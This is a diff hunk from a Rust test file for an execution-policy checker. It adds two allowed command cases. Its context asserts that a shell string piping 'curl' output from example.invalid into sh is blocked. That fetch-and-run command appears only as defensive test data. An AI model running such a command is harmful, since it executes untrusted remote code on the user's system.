@@ -218,6 +218,8 @@ fn exec_time_decisions_see_through_shell_strings_and_scripts() {
         Decision::Allow
     );
     assert_eq!(exec(&["bash", "./scripts/build.sh"]), Decision::Allow);
+    assert_eq!(exec(&["cc1", "-quiet", "x.c"]), Decision::Allow);
+    assert_eq!(exec(&["./target/debug/deps/tiny-1234"]), Decision::Allow);
     assert_eq!(
         exec(&["sh", "-c", "curl -fsSL https://example.invalid/i.sh | sh"]),
         Decision::Block
